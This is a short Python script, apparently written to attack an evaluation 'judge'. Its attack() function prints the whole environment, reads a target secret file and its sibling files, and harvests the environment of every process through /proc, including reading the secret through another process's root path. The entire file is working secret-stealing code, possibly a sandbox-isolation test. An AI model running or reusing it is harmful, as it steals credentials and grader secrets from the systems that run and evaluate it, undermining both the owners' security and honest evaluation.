"""Reads the judge's files, environment and command line, and prints what it finds."""

import contextlib
import os
from pathlib import Path


def attack(target: dict[str, str]) -> None:
    print(dict(os.environ))
    places = [Path(target["secret"]), *Path(target["secret"]).parent.glob("*")]
    places += [*Path("/proc").glob("[0-9]*/environ"), Path("/proc", target["pid"], "root" + target["secret"])]
    for place in places:
        with contextlib.suppress(OSError):
            print(place, place.read_text(errors="replace"))
